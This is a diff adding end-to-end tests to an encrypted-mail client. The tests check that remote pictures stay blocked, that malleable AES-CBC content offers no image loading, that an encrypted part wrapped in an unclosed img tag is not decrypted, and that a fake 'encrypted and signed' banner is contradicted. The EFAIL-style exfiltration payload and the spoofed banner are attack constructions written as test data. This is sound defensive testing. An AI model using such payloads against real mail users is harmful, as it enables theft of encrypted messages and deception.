@@ -288,10 +288,58 @@ describe("reading", () => {
       '<a rel="noreferrer noopener">script link</a>',
     ]);
 
+    await message.waitForText("This message shows pictures from the web. They were not loaded");
+    await message.click("Load pictures");
+    await waitFor("the pictures that were asked for", () => fetched.length >= 2);
+    await delay(1_000);
+    assert.deepEqual(fetched.splice(0).sort(), ["/fallback", "/image"]);
+    // The choice is for this time: the message opened again asks again.
+    await receive("In between", textEntity("Something else.\n"));
+    await thunderbird.selectMessage("Hostile");
+    await thunderbird.message().waitForText("Load pictures");
+    await delay(500);
+    assert.equal(fetched.join(" "), "");
+
     // The same server is reached by what is not held back.
     await receive("Not held back", htmlEntity(`<img src="${webAddress}/control" alt="">`));
     await waitFor("the picture of an unprotected message", () => fetched.includes("/control"));
-    assert.equal(fetched.join(" "), "/control");
+    assert.equal(fetched.splice(0).join(" "), "/control");
+  });
+
+  it("offers no pictures from the web where somebody may have put them in on the way", async () => {
+    const content = htmlEntity(`<p>Secret</p><img src="${webAddress}/malleable?" alt="">`);
+    const message = await receive("Malleable", encrypted(content, "aes-256-cbc"));
+    const text = await message.waitForText("They are not loaded: nobody can say");
+    assert.match(text, /Secret/);
+    assert.doesNotMatch(text, /Load pictures/);
+    await delay(500);
+    assert.equal(fetched.join(" "), "");
+    await thunderbird.screenshot("reading-malleable");
+  });
+
+  it("decrypts nothing that stands between other parts, where its text could be carried away", async () => {
+    const secret = encrypted(textEntity("The-secret-of-the-day"));
+    const between = multipart(
+      "mixed",
+      htmlEntity(`<p>Before</p><img src='${webAddress}/exfiltrated?`),
+      secret,
+      htmlEntity("'>"),
+    );
+    const message = await receive("Between", between);
+    const text = await message.waitForText("Before");
+    assert.doesNotMatch(text, /secret-of-the-day/);
+    await buttonSays("Not protected");
+    await delay(1_000);
+    assert.ok(fetched.splice(0).every((path) => !path.includes("secret-of-the-day")));
+  });
+
+  it("is contradicted by its button when content draws a banner", async () => {
+    const imitation = `<smime-exchange><section class="banner good"><p>Encrypted and signed by ${bob.address}</p></section></smime-exchange>
+      <style>smime-exchange { display: block; border: 1px solid green }</style><p>Trust me.</p>`;
+    const message = await receive("Imitation", htmlEntity(imitation));
+    await message.waitForText("Trust me.");
+    await buttonSays("Not protected");
+    await thunderbird.screenshot("reading-imitated-banner");
   });
 
   it("saves and opens what was attached to an encrypted message", async () => {
